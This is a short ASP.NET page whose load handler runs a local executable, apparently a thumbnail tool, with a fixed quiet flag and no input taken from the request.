<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  var psi = new System.Diagnostics.ProcessStartInfo("C:\\tools\\thumbs.exe", "-q");
  psi.UseShellExecute = false;
  System.Diagnostics.Process.Start(psi).WaitForExit();
}
</script>
